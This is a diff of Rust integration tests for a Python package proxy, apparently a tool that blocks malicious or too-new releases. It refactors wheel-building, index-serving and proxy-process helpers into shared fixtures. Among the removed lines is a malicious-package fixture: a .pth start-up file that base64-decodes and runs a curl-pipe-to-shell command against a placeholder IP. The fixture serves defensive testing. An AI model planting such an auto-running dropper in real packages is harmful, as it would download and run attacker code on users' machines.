@@ -14,8 +14,9 @@ use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 use std::sync::OnceLock;
 
-use base64::Engine;
+use common::fixtures::{pth_dropper, simple_page, text};
 use common::loopback::Loopback;
+use common::proxy::Proxy;
 use common::root;
 use serde_json::json;
 use sha2::{Digest, Sha256};
@@ -45,41 +46,19 @@ fn client(name: &str) -> String {
     path.display().to_string()
 }
 
-fn text(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
-}
-
 /// A wheel with a console script and a consistent RECORD; `pth` adds a start-up file.
 fn wheel(name: &str, version: &str, pth: Option<&str>) -> Vec<u8> {
-    let info = format!("{name}-{version}.dist-info");
-    let mut all: Vec<(String, Vec<u8>)> = vec![(
-        format!("{name}/__init__.py"),
-        format!("def hello():\n    print('hello from {name} {version}')\n").into_bytes(),
-    )];
+    let module = format!("{name}/__init__.py");
+    let code = format!("def hello():\n    print('hello from {name} {version}')\n");
+    let start = format!("{name}_start.pth");
+    let entry_points = format!("{name}-{version}.dist-info/entry_points.txt");
+    let scripts = format!("[console_scripts]\n{name} = {name}:hello\n");
+    let mut files: Vec<(&str, &[u8])> = vec![(&module, code.as_bytes())];
     if let Some(pth) = pth {
-        all.push((format!("{name}_start.pth"), pth.as_bytes().to_vec()));
+        files.push((&start, pth.as_bytes()));
     }
-    all.push((
-        format!("{info}/METADATA"),
-        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: tests\n")
-            .into_bytes(),
-    ));
-    all.push((
-        format!("{info}/WHEEL"),
-        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
-    ));
-    all.push((
-        format!("{info}/entry_points.txt"),
-        format!("[console_scripts]\n{name} = {name}:hello\n").into_bytes(),
-    ));
-    let mut record = String::new();
-    for (p, d) in &all {
-        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
-        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
-    }
-    record.push_str(&format!("{info}/RECORD,,\n"));
-    all.push((format!("{info}/RECORD"), record.into_bytes()));
-    common::zip(&all)
+    files.push((&entry_points, scripts.as_bytes()));
+    common::fixtures::wheel(name, version, &files)
 }
 
 /// A release of a fixture project: version, whether it is malicious, upload time.
@@ -93,9 +72,7 @@ fn index() -> &'static Loopback {
     static SERVER: OnceLock<Loopback> = OnceLock::new();
     SERVER.get_or_init(|| {
         let server = Loopback::start();
-        let payload = base64::engine::general_purpose::STANDARD
-            .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
-        let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+        let pth = pth_dropper();
         let now = std::time::SystemTime::now()
             .duration_since(std::time::UNIX_EPOCH)
             .unwrap()
@@ -117,12 +94,7 @@ fn index() -> &'static Loopback {
                 files.push(json!({"filename": file, "url": path,
                     "hashes": {"sha256": hex::encode(Sha256::digest(&body))}, "upload-time": at}));
             }
-            let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
-            server.route(
-                &format!("/idx/simple/{name}/"),
-                "application/vnd.pypi.simple.v1+json",
-                serde_json::to_vec(&page).unwrap(),
-            );
+            simple_page(&server, &format!("/idx/simple/{name}/"), name, files);
         }
         server
     })
@@ -733,19 +705,8 @@ fn an_interrupted_run_still_puts_pyproject_back() {
     assert_eq!(s.read("pyproject.toml"), pyproject);
 }
 
-/// A `customs proxy` process of this test, stopped (by its pid) when dropped.
-struct ProxyProcess(std::process::Child);
-
-impl Drop for ProxyProcess {
-    fn drop(&mut self) {
-        let _ = self.0.kill();
-        let _ = self.0.wait();
-    }
-}
-
 #[test]
 fn a_standing_proxy_serves_poetry_pdm_pipx_and_uvx() {
-    use std::io::BufRead;
     let (poetry, pdm, pipx, uvx) = (
         client("poetry"),
         client("pdm"),
@@ -753,31 +714,23 @@ fn a_standing_proxy_serves_poetry_pdm_pipx_and_uvx() {
         client("uvx"),
     );
     let s = Setup::new();
-    let mut child = s
-        .command(
-            env!("CARGO_BIN_EXE_customs"),
-            &[
-                "proxy",
-                "--listen",
-                "127.0.0.1:0",
-                "--min-release-age",
-                "7d",
-                "--pypi-upstream",
-                &simple(),
-            ],
-            &[],
-        )
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::null())
-        .spawn()
-        .unwrap();
-    let mut line = String::new();
-    std::io::BufReader::new(child.stdout.take().unwrap())
-        .read_line(&mut line)
-        .unwrap();
-    let _proxy = ProxyProcess(child);
-    let url = format!("{}/pypi/simple/", line.trim());
-    assert!(url.starts_with("http://127.0.0.1:"), "{line}");
+    // The store and cache of this test's `customs run` (Setup::command).
+    let env = [
+        (
+            "CUSTOMS_STORE",
+            s.path().join("store.sqlite3").display().to_string(),
+        ),
+        (
+            "CUSTOMS_CACHE_DIR",
+            s.path().join("cache").display().to_string(),
+        ),
+    ];
+    let proxy = Proxy::start(
+        s.path(),
+        &["--min-release-age", "7d", "--pypi-upstream", &simple()],
+        &env,
+    );
+    let url = format!("{}/pypi/simple/", proxy.url);
 
     // poetry: the proxy as the primary source.
     let pyproject = format!(
